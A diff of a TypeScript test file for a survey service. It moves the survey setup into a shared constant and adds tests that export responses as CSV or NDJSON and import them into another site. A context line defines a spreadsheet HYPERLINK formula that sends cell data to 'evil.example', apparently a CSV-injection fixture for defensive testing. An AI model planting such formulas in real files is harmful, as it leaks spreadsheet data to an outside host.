@@ -9,14 +9,9 @@ import { postAll } from "../scores/answers.ts";
 const optionsOf = (...keys: string[]) => keys.map((key) => ({ key, text: { en: key } }));
 const HOSTILE = `=HYPERLINK("http://evil.example?"&A1,"Click")`;
 
-let collector: Collector;
-let api: CheckedApi;
-
-beforeAll(async () => {
-  collector = await startCollector();
-  api = checkedApi(collector);
-  const key = await collector.site("shop");
-  await collector.touchpoint("shop", "rated", {
+const SURVEYS = [
+  {
+    touchpoint: "rated",
     question: { metric: "csat", key: "satisfied" },
     followUp: { metric: "choice", key: "why", options: optionsOf("price", "speed", "range"), several: true },
     properties: [
@@ -24,18 +19,26 @@ beforeAll(async () => {
       { key: "items", type: "number" },
       { key: "member", type: "boolean" },
     ],
-  });
-  await collector.touchpoint("shop", "told", {
+  },
+  {
+    touchpoint: "told",
     question: { metric: "text", key: "missing", text: { en: "?" } },
     properties: [
       { key: "plan", type: "string" },
       { key: "room", type: "string" },
     ],
-  });
-  await collector.touchpoint("shop", "liked", {
-    question: { metric: "thumbs", key: "liked" },
-    followUp: { metric: "text", key: "more" },
-  });
+  },
+  { touchpoint: "liked", question: { metric: "thumbs", key: "liked" }, followUp: { metric: "text", key: "more" } },
+];
+
+let collector: Collector;
+let api: CheckedApi;
+
+beforeAll(async () => {
+  collector = await startCollector();
+  api = checkedApi(collector);
+  const key = await collector.site("shop");
+  for (const { touchpoint, ...input } of SURVEYS) await collector.touchpoint("shop", touchpoint, input);
   await postAll(collector, key, "rated", [
     {
       answer: 2,
@@ -228,5 +231,27 @@ describe("a file of responses", () => {
   ])("is refused with 422 and the path: %s", async (path, fault) => {
     const refused = await api.refused("GET", `/sites/shop/${path}`);
     expect(refused).toEqual({ status: 422, code: "invalid-request", paths: [fault] });
+  });
+});
+
+describe("a file of responses, taken in by another site", () => {
+  it.each([
+    ["responses.csv", "text/csv; charset=utf-8"],
+    ["responses.csv?bom=true", "text/csv; charset=utf-8"],
+    ["responses.ndjson", "application/x-ndjson"],
+  ])("has every answer as it was given: %s", async (name, type) => {
+    const copy = `copy-${name.replaceAll(/[^a-z]+/g, "-")}`;
+    await collector.site(copy);
+    for (const { touchpoint, ...input } of SURVEYS) await collector.touchpoint(copy, touchpoint, input);
+    const { text } = await file(`/sites/shop/${name}`);
+    const { status, body } = await api.call("POST", `/sites/${copy}/imports`, { body: text, type });
+    expect([status, body]).toMatchObject([200, { rows: 8, imported: 7, unanswered: 1, refused: 0, lines: [] }]);
+    const taken = await api.read(ResponsePage, `/sites/${copy}/responses?limit=200`);
+    const told = (one: ResponseSchema) => {
+      const { id: _, revision: _r, channel: _c, receivedAt: _t, shown: _s, tags: _g, ...rest } = one;
+      return JSON.stringify(rest);
+    };
+    const answered = (await listed()).filter((one) => one.answer !== null);
+    expect(taken.responses.map(told).toSorted()).toEqual(answered.map(told).toSorted());
   });
 });
